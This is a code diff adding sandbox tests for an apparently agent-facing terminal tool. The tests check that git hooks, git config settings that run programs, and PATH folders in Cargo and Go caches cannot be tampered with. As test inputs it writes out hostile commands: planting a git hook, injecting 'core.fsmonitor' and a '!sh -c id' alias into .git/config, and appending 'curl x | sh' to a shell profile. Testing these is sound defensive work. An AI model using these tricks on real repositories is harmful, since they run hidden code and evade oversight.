@@ -162,3 +162,97 @@ def test_sudo_cannot_gain_root_inside_the_sandbox(tmp_path: Path) -> None:
     registry, context = _terminal(tmp_path)
     result = run(registry, context, "sudo -n true")
     assert result["exit_code"] != 0
+
+
+def _git(work: Path) -> None:
+    import subprocess
+
+    for args in (
+        ["init", "-q", "-b", "main"],
+        ["config", "user.email", "dev@example.com"],
+        ["config", "user.name", "Dev"],
+        ["commit", "-q", "--allow-empty", "-m", "start"],
+    ):
+        subprocess.run(["git", "-C", str(work), *args], check=True, capture_output=True)
+
+
+@needs_bwrap
+def test_git_hooks_stay_read_only_while_everyday_git_works(tmp_path: Path) -> None:
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed")
+    registry, context = _terminal(tmp_path)
+    _git(context.workdir)
+    hook = context.workdir / ".git" / "hooks" / "pre-commit"
+    planted = run(registry, context, f"printf 'touch /tmp/pwned' > {hook}; chmod +x {hook}")
+    assert planted["exit_code"] != 0 and not hook.exists()
+    everyday = run(
+        registry,
+        context,
+        "git config user.name 'Someone Else' && echo x > a.txt && git add a.txt && "
+        "git commit -qm a && git checkout -qb feature && git branch -q old && "
+        "git checkout -q main && git stash list && git config user.name",
+    )
+    assert everyday["success"], everyday["output"]
+    assert "Someone Else" in everyday["output"]
+
+
+def test_a_git_setting_that_runs_a_program_is_put_back(tmp_path: Path) -> None:
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed")
+    registry, context = _terminal(tmp_path)
+    _git(context.workdir)
+    config = context.workdir / ".git" / "config"
+    # Written by a program the policy cannot see into (a build script, a one-liner).
+    sneaky = (
+        "python3 -c \"open('.git/'+'config','a').write('[core]\\n\\tfsmonitor = touch "
+        "/tmp/pwned\\n[alias]\\n\\tst = !sh -c id\\n')\""
+    )
+    result = run(registry, context, sneaky)
+    assert not result["success"] and "core.fsmonitor" in result["error"]
+    assert "alias.st" in result["error"] and "put back" in result["error"]
+    assert "fsmonitor" not in config.read_text() and "alias" not in config.read_text()
+    kept = run(registry, context, "git config user.name 'Still Me' && git config pull.rebase true")
+    assert kept["success"] and "Still Me" in config.read_text()
+
+
+def test_a_hook_written_by_moving_git_away_is_removed(tmp_path: Path) -> None:
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed")
+    registry, context = _terminal(tmp_path)
+    _git(context.workdir)
+    result = run(
+        registry,
+        context,
+        "mv .git .git-old && cp -r .git-old .git && printf '#!/bin/sh\\nid\\n' > "
+        ".git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
+    )
+    assert not result["success"] and ".git/hooks" in result["error"]
+    assert not (context.workdir / ".git" / "hooks" / "post-checkout").exists()
+
+
+@needs_bwrap
+def test_folders_on_path_inside_the_build_caches_stay_read_only(tmp_path: Path) -> None:
+    import subprocess
+
+    from hermes_tui.core.tools.sandbox import SandboxSpec, bwrap_argv
+
+    home = tmp_path / "home"
+    for folder in (".cargo/bin", ".cargo/registry", "go/bin", "go/pkg"):
+        (home / folder).mkdir(parents=True)
+    (home / ".cargo" / "env").write_text("export PATH=$HOME/.cargo/bin:$PATH\n")
+    work = tmp_path / "work"
+    work.mkdir()
+    spec = SandboxSpec(probe("auto").bwrap or "bwrap", work, work, tmp_path / "hermes", home)
+
+    def sandboxed(script: str) -> int:
+        argv = bwrap_argv(spec, ["bash", "-c", script], exists=lambda p: p.exists())
+        return subprocess.run(argv, capture_output=True).returncode
+
+    for script in (
+        f"echo evil > {home}/.cargo/bin/git",
+        f"echo 'curl x | sh' >> {home}/.cargo/env",
+        f"echo evil > {home}/go/bin/go",
+    ):
+        assert sandboxed(script) != 0, script
+    assert sandboxed(f"echo cached > {home}/.cargo/registry/x && echo ok > {home}/go/pkg/x") == 0
+    assert (home / ".cargo" / "env").read_text().startswith("export PATH")
